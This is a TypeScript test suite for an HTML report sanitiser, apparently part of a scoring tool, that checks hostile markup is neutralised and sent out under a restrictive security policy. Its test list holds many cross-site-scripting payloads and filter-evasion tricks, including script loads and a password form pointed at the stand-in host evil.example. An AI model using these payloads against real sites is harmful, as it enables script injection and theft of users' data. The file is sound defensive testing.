import assert from 'node:assert/strict'
import { test } from 'node:test'
import { parseHTML } from 'linkedom'
import { MAX_REPORT_LENGTH, REPORT_POLICY, reportPage } from '#scoring/scorer-program/report-page.ts'
import { sanitizeReport } from '#scoring/scorer-program/sanitize-report.ts'
import { SeededRandom } from '../../helpers/seeded-random.ts'

test('an honest report stays as it is', () => {
  const html =
    '<style>td { color: #123 }</style><h1 class="a">Scores &amp; more</h1><table><tr><td colspan="2">0.5</td></tr></table>' +
    '<svg viewbox="0 0 9 9"><defs><lineargradient id="g"></lineargradient></defs><path d="M0 0L9 9" fill="url(#g)"></path></svg>' +
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a &lt; b"><a href="#top">top</a>'
  assert.equal(sanitizeReport(html), html)
})

test('styles in either quotes stay, also when the page is made of what was sanitised before', () => {
  const html = `<p style='font-family: "Comic Sans"' title='"a" < b'>x</p>`
  const clean = '<p style="font-family: &quot;Comic Sans&quot;" title="&quot;a&quot; &lt; b">x</p>'
  assert.equal(sanitizeReport(html), clean)
  assert.ok(reportPage(clean).includes(clean))
})

const HOSTILE: [name: string, html: string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in capitals that stays open', '<SCRIPT SRC=http://evil.example/x.js>alert(1)'],
  ['a script in an SVG', '<svg><script href="http://evil.example/x"/></svg>'],
  ['a handler', '<p onclick="alert(1)">x</p>'],
  ['a handler after a slash', '<img/onerror=alert(1)/src=x>'],
  ['a handler without quotes', '<body onload=alert(1)>'],
  ['a handler of an SVG', '<svg onload="alert(1)"><animate onbegin="alert(1)" attributeName="x"/></svg>'],
  ['an address with a script', '<a href="javascript:alert(1)">x</a>'],
  ['an address with a script in entities', '<a href="java&#115;cript&colon;alert(1)">x</a>'],
  ['an address with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['a picture from elsewhere', '<img src="http://evil.example/x.png" srcset="//evil.example/y 2x">'],
  ['a picture that is an SVG', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['a frame', '<iframe src="http://evil.example"></iframe>'],
  ['a frame within', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data="http://evil.example"></object><embed src="http://evil.example">'],
  [
    'a form',
    '<form action="http://evil.example"><input name="password"><button formaction="javascript:alert(1)">',
  ],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=http://evil.example">'],
  [
    'another base',
    '<base href="http://evil.example/"><a target="_top" ping="http://evil.example" href="x">x</a>',
  ],
  [
    'links to styles and names',
    '<link rel="stylesheet" href="http://evil.example/x.css"><link rel=dns-prefetch href=//evil.example>',
  ],
  ['an import in a style', '<style>@import "http://evil.example/x.css";</style>'],
  ['a background', '<div style="background:url(http://evil.example/x)">x</div>'],
  ['a background in escapes', '<div style="background:\\75rl(http://evil.example/x)">x</div>'],
  ['a background in entities', '<div style="background:u&#114;l(http://evil.example/x)">x</div>'],
  [
    'a paint from elsewhere',
    '<svg><rect fill="url(http://evil.example/x#y)"/><use href="http://evil.example/x#y"/></svg>',
  ],
  [
    'foreign content in an SVG',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  ],
  ['a style that changes its nature', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
  ['a title that hides markup', '<title><img title="</title><script>alert(1)</script>"></title>'],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a tag in a tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a value that ends early', '<p title="x"onclick=alert(1) id=\'"><script>alert(1)</script>\'>x</p>'],
  ['a value in other quotes', `<p title='" onclick="alert(1)'>x</p>`],
  ['an end of the frame', '"></iframe><script>alert(1)</script>'],
  ['a NUL in a name', '<scr\0ipt>alert(1)</scr\0ipt><p on\0click=alert(1)>x</p>'],
]
for (const [name, html] of HOSTILE) {
  test(`harmless afterwards: ${name}`, () => requireHarmless(html))
}

test('harmless afterwards: 3,000 reports spliced together from the hostile ones', () => {
  const random = new SeededRandom(20261121)
  const piece = (): string => {
    const html = HOSTILE[random.below(HOSTILE.length)][1]
    const start = random.below(html.length)
    return random.below(2) === 0 ? html : html.slice(start, start + 1 + random.below(html.length))
  }
  for (let round = 0; round < 3000; round++) requireHarmless(Array.from({ length: 4 }, piece).join(''))
})

test('letters that change their length in lower case move nothing', () => {
  assert.equal(sanitizeReport('\u0130<style>a { top: 0 }</STYLE>b'), '\u0130<style>a { top: 0 }</style>b')
})

/** Looks at the rewritten report with an independent parser. */
function requireHarmless(html: string): void {
  const clean = sanitizeReport(html)
  const { document } = parseHTML(`<!doctype html><html><body>${clean}</body></html>`)
  const forbidden =
    'script, iframe, object, embed, form, input, button, meta, base, link, template, animate, foreignObject, title'
  const shown = `${html}\nbecame\n${clean}`
  assert.equal(document.querySelectorAll(forbidden).length, 0, shown)
  for (const element of document.querySelectorAll('*')) {
    for (const { name: attribute, value } of element.attributes) {
      assert.doesNotMatch(attribute, /^(on|action|formaction|srcset|ping|target|srcdoc)/i, shown)
      if (attribute !== 'id' && attribute !== 'title') assert.doesNotMatch(value, /evil|alert|script/i, shown)
    }
  }
  for (const style of document.querySelectorAll('style')) {
    assert.doesNotMatch(style.textContent ?? '', /evil|alert|</i, shown)
  }
  assert.equal(sanitizeReport(clean), clean, 'sanitising again changes something')
}

test('a report is a page whose policy, before anything of the program, loads nothing', () => {
  const page = reportPage('<p>"1" &lt; 2</p><script>alert(1)</script>')
  assert.ok(
    page.startsWith(
      `<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="${REPORT_POLICY}">`,
    ),
  )
  assert.ok(page.endsWith('<body><p>"1" &lt; 2</p></body></html>'))
  assert.match(REPORT_POLICY, /^default-src 'none'/)
})

test('a report that is too long is refused', () => {
  assert.throws(() => reportPage('x'.repeat(MAX_REPORT_LENGTH + 1)), RangeError)
})

test('hostile reports of full length are read in one go', { timeout: 20_000 }, () => {
  for (const piece of [
    '<',
    '<a',
    '<div>',
    '<p a="',
    '<p a=\'"',
    '<!--',
    '<script>',
    '</style',
    '<p ',
    '=',
    ' ',
    '<p a=b c ',
    '<style>',
    '&',
    '"',
  ]) {
    sanitizeReport(piece.repeat(MAX_REPORT_LENGTH / 4 / piece.length))
  }
})
